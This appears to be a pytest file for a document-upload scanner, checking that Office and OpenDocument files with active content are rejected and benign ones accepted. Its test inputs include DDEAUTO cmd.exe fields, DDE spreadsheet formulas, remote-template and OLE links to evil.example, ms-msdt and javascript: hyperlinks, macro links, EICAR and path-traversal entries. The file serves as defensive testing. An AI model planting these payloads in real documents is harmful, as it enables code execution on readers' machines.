"""What runs, fetches or hides inside Office and OpenDocument files, whatever its part is called; honest ones pass."""

from __future__ import annotations

import io
import zipfile

import pytest

from expertise.files.inspection import inspect
from expertise.files.signature import EICAR
from expertise.files.verdict import AcceptedFile
from workflows.refusals import Problem

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
PROJECT = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600 + "_VBA_PROJECT".encode("utf-16-le") + b"\0" * 99


def document(body):
    return f'<?xml version="1.0" encoding="UTF-8"?><w:document {W}><w:body><w:p>{body}</w:p></w:body></w:document>'


def char(kind):
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def code(*texts, tag="instrText"):
    return "".join(f'<w:r><w:{tag} xml:space="preserve">{text}</w:{tag}></w:r>' for text in texts)


def field(*inner):
    return char("begin") + "".join(inner) + char("separate") + "<w:r><w:t>1</w:t></w:r>" + char("end")


def relations(kind, target, mode=' TargetMode="External"', quote='"'):
    attributes = " ".join(
        f"{name}={quote}{value}{quote}" for name, value in (("Type", TYPE + kind), ("Target", target))
    )
    return f'<Relationships xmlns="x"><Relationship Id="rId1" {attributes}{mode}/></Relationships>'


def sheet(formula, tag="f"):
    return f'<worksheet><sheetData><row><c r="A1"><{tag}>{formula}</{tag}><v>0</v></c></row></sheetData></worksheet>'


DDE = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'
DOCX = {
    "a field": document(field(code(" " + DDE))),
    "the field without AUTO": document(field(code(' DDE Excel "x" "y" '))),
    "a field split between runs": document(field(code("D", "DE", "AU", "TO c:\\cmd.exe"))),
    "a field in small letters": document(field(code("ddeAuto c:\\cmd.exe"))),
    "a simple field": document(f'<w:fldSimple w:instr="{DDE.replace(chr(34), "&quot;")}"><w:r/></w:fldSimple>'),
    "letters written as numbers": document(field(code("&#68;&#x44;EAUTO c:\\cmd.exe"))),
    "a field of numbers": document(field(char("begin"), code(" QUOTE 68 68 69 65 85 84 79 "), char("end"))),
    "a name from a nested field": document(field(code("DD"), field(code(' QUOTE "E" ')), code("AUTO c:\\cmd.exe"))),
    "a name that is a nested field": document(field(field(code(' SET x "y" ')), code(" c:\\cmd.exe"))),
    "a field in deleted text": document(field(code(DDE, tag="delInstrText"))),
    "a field in a field": document(field(code(" IF 1 = 1 "), field(code(DDE)))),
    "another encoding": document(field(code(DDE))).replace("UTF-8", "UTF-16").encode("utf-16"),
    "Kazakh around it": document("<w:r><w:t>Әріптес</w:t></w:r>" * 9000 + field(code(DDE))),
}
XLSX = {
    "xl/externalLinks/externalLink1.xml": '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
    "xl/externalLinks/other.bin.xml": '<x:externalLink xmlns:x="y"><x:ddeLink/></x:externalLink>',
    "xl/worksheets/sheet1.xml": sheet("cmd|'/c calc'!A0"),
    "xl/worksheets/sheet2.xml": sheet("1+cmd|&apos;/c calc&apos;!A0"),
    "xl/worksheets/sheet3.xml": sheet("MSEXCEL&#124;'\\..\\..\\cmd.exe /c calc'!''"),
    "xl/workbook2.xml": sheet("cmd|'/c calc'!A0", "definedName"),
    "xl/worksheets/sheet4.xml": "<c/>" * 16_381 + sheet("cmd|'/c calc'!A0"),
}


@pytest.fixture
def judge(tmp_path):
    def judged(content, name="report.docx"):
        path = tmp_path / "content"
        path.write_bytes(content)
        return inspect(path, name, len(content))

    return judged


@pytest.mark.parametrize("part", ["word/document.xml", "word/header1.xml", "word/comments.xml", "other/any.xml"])
@pytest.mark.parametrize("kind", DOCX)
def test_a_field_that_starts_a_program_is_found(judge, make, kind, part):
    assert judge(make.office("docx", {part: DOCX[kind]})) == Problem("file_macros")


@pytest.mark.parametrize("part", XLSX)
def test_a_spreadsheet_that_starts_a_program_is_found(judge, make, part):
    assert judge(make.office("xlsx", {part: XLSX[part]}), "x.xlsx") == Problem("file_macros")


@pytest.mark.parametrize(
    ("kind", "target"),
    [
        ("attachedTemplate", "https://evil.example/t.dotm"),
        ("attachedTemplate", "&#104;ttps://evil.example/t.dotm"),
        ("attachedTemplate", "\\\\evil.example\\share\\t.dotm"),
        ("attachedTemplate", "file://evil.example/share/t.dotm"),
        ("attachedTemplate", "file:///\\\\evil.example\\share\\t.dotm"),
        ("attachedTemplate", "%5C%5Cevil.example\\t.dotm"),
        ("oleObject", "mhtml:http://evil.example/x.html!x-usc:http://evil.example/x.html"),
        ("oleObject", "http://evil.example/x.html!"),
        ("frame", "http://evil.example/"),
        ("subDocument", "//evil.example/x.docx"),
        ("aFChunk", "http://evil.example/x.htm"),
        ("somethingNew", "http://evil.example/x"),
        ("image", "\\\\evil.example\\share\\1.png"),
        ("hyperlink", "ms-msdt:/id PCWDiagnostic"),
        ("hyperlink", "javascript:alert(1)"),
        ("hyperlink", "search-ms:query=x"),
    ],
)
@pytest.mark.parametrize("quote", ['"', "'"])
def test_what_is_fetched_from_elsewhere_is_found(judge, make, kind, target, quote):
    part = relations(kind, target, quote=quote)
    for content in (part, ("\ufeff" + part).encode("utf-16-le")):
        assert judge(make.office("docx", {"word/_rels/settings.xml.rels": content})) == Problem("file_macros")


@pytest.mark.parametrize(
    "more",
    [
        {"word/media/image1.png": PROJECT},
        {"word/other.xml": PROJECT},
        {"word/_rels/document.xml.rels": relations("vbaProject", "data.dat", "")},
        {"xl/_rels/workbook.xml.rels": relations("xlMacrosheet", "sheet9.xml", "")},
        {"customUI.rels": relations("ui/extensibility", "a.xml", "")},
        {"word\\vbaProject.bin": b"x"},
        {"ppt/slides/slide1.xml": '<a:hlinkClick xmlns:a="x" action="ppaction://program"/>'},
        {"ppt/slides/slide2.xml": "<a:hlinkClick xmlns:a='x' action='ppaction&#58;//macro?name=x'/>"},
    ],
)
def test_macros_under_other_names_are_found(judge, make, more):
    assert judge(make.office("docx", more)) == Problem("file_macros")


@pytest.mark.parametrize("declared", ["macrosheet+xml", "vbaProject", "macro&#69;nabled.12", "ms-office.activeX+xml"])
def test_macros_that_are_declared_are_found(judge, make, declared):
    types = f'<Override PartName="/a.dat" ContentType="application/vnd.ms-excel.{declared}"/>'
    assert judge(make.office("xlsx", types=types), "x.xlsx") == Problem("file_macros")


@pytest.mark.parametrize(
    ("kind", "part"),
    [
        ("text", '<text:dde-connection-decl office:dde-application="soffice" xmlns:text="x" xmlns:office="y"/>'),
        ("text", '<script:event-listener xlink:href="vnd.sun.star.script:LibreLogo.py$run?language=Python"/>'),
        ("text", "<a xlink:href='macro:///Standard.Module1.Main()'/>"),
        ("spreadsheet", '<table:table-cell table:formula="of:=DDE(&quot;soffice&quot;;&quot;a&quot;;&quot;b&quot;)"/>'),
        ("spreadsheet", '<table:dde-link><office:dde-source office:name="x"/></table:dde-link>'),
    ],
)
def test_active_open_documents_are_found(judge, make, kind, part):
    content = make.open_document(kind, {"content.xml": part})
    assert judge(content, "x.odt" if kind == "text" else "x.ods") == Problem("file_macros")


def test_embedded_documents_are_judged_like_the_outer_one(judge, make):
    inner = make.office("xlsx", {"xl/vbaProject.bin": PROJECT})
    macros, foreign = make.office("docx", {"word/embeddings/Table1.xlsx": inner}), make.archive({"a.txt": "x"})
    assert judge(macros) == Problem("file_macros")
    assert judge(make.office("docx", {"word/embeddings/oleObject1.bin": foreign})) == Problem("file_hidden")
    assert judge(make.office("docx", {"word/embeddings/Table1.xlsx": make.exe})) == Problem("file_hidden")
    inner = make.office("docx")
    for _ in range(4):
        inner = make.office("docx", {"word/embeddings/a.docx": inner})
    assert judge(inner) == Problem("file_hidden")
    bomb = make.office("xlsx", {"xl/media/a.bmp": b"\0" * 30_000_000})
    assert judge(make.office("docx", {"word/embeddings/Table1.xlsx": bomb})) == Problem("file_bomb")


@pytest.mark.parametrize(
    "more", [{"word/media/a.iqy": b"WEB"}, {"word/afchunk.rtf": b"{\\rtf1"}, {"word/a.settingcontent-ms": b"<a/>"}]
)
def test_programs_of_other_kinds_are_found(judge, make, more):
    assert judge(make.office("docx", more)) == Problem("file_hidden")


@pytest.mark.parametrize(
    ("name", "made"),
    [
        ("x.docx", lambda make: make.office("docx", {"word/media/a.bin": b"x" * 70_000 + EICAR})),
        ("x.xlsx", lambda make: make.office("xlsx", {"xl/sharedStrings.xml": b"<sst>" + EICAR + b"</sst>"})),
        ("x.odt", lambda make: make.open_document("text", {"content.xml": b"<a>" + EICAR + b"</a>"})),
        ("x.csv", lambda make: b"a;b\r\n" * 13_100 + EICAR),
        ("x.txt", lambda make: EICAR.decode().encode("utf-16")),
        ("x.png", lambda make: make.png(after=EICAR)),
        ("x.jpg", lambda make: make.jpeg(EICAR)),
        ("x.pdf", lambda make: make.pdf(EICAR)),
    ],
)
def test_the_test_file_of_the_scanners_is_found_in_any_file(judge, make, name, made):
    assert judge(made(make), name) == Problem("file_virus")


def backslashes(content):
    """The archive as some programs of Windows write it: folders parted by backslashes."""
    made = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as new:
        for part in old.infolist():
            info = zipfile.ZipInfo("x")
            info.filename = part.filename.replace("/", "\\")
            new.writestr(info, old.read(part))
    return made.getvalue()


def streamed(content):
    """The archive as Google writes it: sizes behind each part."""

    class Pipe(io.RawIOBase):
        held = b""

        def writable(self):
            return True

        def write(self, piece):
            self.held += bytes(piece)
            return len(piece)

    pipe = Pipe()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(pipe, "w", zipfile.ZIP_DEFLATED) as new:
        for part in old.infolist():
            new.writestr(part.filename, old.read(part))
    return pipe.held


HONEST = {
    "xlsx with backslashes": (
        "x.xlsx",
        lambda make: backslashes(make.office("xlsx", {"xl/worksheets/sheet1.xml": "<a/>"})),
    ),
    "docx from Google": ("x.docx", lambda make: streamed(make.office("docx"))),
    "docx with fields": (
        "x.docx",
        lambda make: make.office(
            "docx",
            {
                "word/document.xml": document(
                    field(code(" PAGE "))
                    + field(code(" TOC \\o &quot;1-3&quot; "), field(code(" HYPERLINK \\l &quot;a&quot; ")))
                    + field(code(" IF "), field(code(" MERGEFIELD Sum ")), code(" = 1 &quot;DDE&quot; &quot;b&quot; "))
                    + field(code("="), field(code("PAGE")), code("+1"))
                    + field(code(' QUOTE "DDEAUTO is a field" '))
                    + "<w:r><w:t>DDEAUTO и DDE – слова из отчёта</w:t></w:r>"
                ),
            },
        ),
    ),
    "docx with a picture of the web": (
        "x.docx",
        lambda make: make.office(
            "docx", {"word/_rels/document.xml.rels": relations("image", "https://example.kz/logo.png")}
        ),
    ),
    "docx with a link into the office's share": (
        "x.docx",
        lambda make: make.office(
            "docx", {"word/_rels/document.xml.rels": relations("hyperlink", "file:///\\\\server\\share\\plan.docx")}
        ),
    ),
    "docx with a vector picture": (
        "x.docx",
        lambda make: make.office("docx", {"word/media/image1.svg": '<svg xmlns="http://www.w3.org/2000/svg"/>'}),
    ),
    "docx with a part in cp1251": (
        "x.docx",
        lambda make: make.office(
            "docx",
            {"customXml/item1.xml": '<?xml version="1.0" encoding="windows-1251"?><a>Отчёт</a>'.encode("cp1251")},
        ),
    ),
    "xlsx with bars in texts": (
        "x.xlsx",
        lambda make: make.office(
            "xlsx", {"xl/worksheets/sheet1.xml": sheet('A1&amp;"|"&amp;B1&amp;" x|y!"') + "<t>план|факт!</t>"}
        ),
    ),
    "xlsx that takes figures from another book": (
        "x.xlsx",
        lambda make: make.office(
            "xlsx",
            {"xl/externalLinks/_rels/externalLink1.xml.rels": relations("externalLinkPath", "https://x.kz/book.xlsx")},
        ),
    ),
    "odt with empty scripts": (
        "x.odt",
        lambda make: make.open_document("text", {"content.xml": "<office:a><office:scripts/></office:a>"}),
    ),
    "csv with formulas": ("x.csv", lambda make: b"=1+1;=HYPERLINK(1)\r\n=cmd|' /C calc'!A0;-5\r\n"),
    "moving photo": (
        "x.jpg",
        lambda make: make.jpeg(b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom" + b"\x00\x00\x00\x08free" * 40_000),
    ),
    "moving photo of Samsung": (
        "x.jpeg",
        lambda make: make.jpeg(
            b"\0\0\x30\x0a\x10\0\0\0MotionPhoto_Data\0\0\0\x18ftypmp42" + b"free" * 40_000 + b"SEFT"
        ),
    ),
    "photo with a second picture": ("x.jpg", lambda make: make.jpeg(make.jpeg(b"") + b"U" * 99_000)),
    "photo with a preview": (
        "x.jpg",
        lambda make: b"\xff\xd8\xff\xe1\x00\x20Exif\0\0\xff\xd8\xff\xd9" + b"x" * 20 + make.jpeg()[2:],
    ),
}


@pytest.mark.parametrize("kind", HONEST)
def test_honest_files_of_many_programs_pass(judge, make, kind):
    name, made = HONEST[kind]
    assert isinstance(judge(made(make), name), AcceptedFile)


@pytest.mark.parametrize(
    ("content", "problem"),
    [
        (lambda make: make.jpeg(b"x" * 70_000), "file_hidden"),
        (lambda make: make.jpeg(b"Rar!\x1a\x07\x00" + b"x" * 99), "file_hidden"),
        (lambda make: make.jpeg(make.exe), "file_hidden"),
        (
            lambda make: b"\xff\xd8\xff\xc0\x00\x11\x08\xff\xff\xff\xff\x03" + b"\0" * 9 + make.jpeg()[2:],
            "file_bomb",
        ),
    ],
)
def test_what_hides_behind_a_photo_is_found(judge, make, content, problem):
    assert judge(content(make), "x.jpg") == Problem(problem)


def test_backslashes_open_no_way_out(judge, make):
    for name in ("..\\..\\etc\\x", "\\\\server\\share\\x", "C:\\x", "word\\media\\a.exe"):
        assert judge(backslashes(make.office("docx", {name: b"x"}))) == Problem("file_hidden")
    twice = make.office("docx", {"word/a.xml": b"<a/>", "word\\a.xml": b"<b/>"})
    assert judge(twice) == Problem("file_damaged")
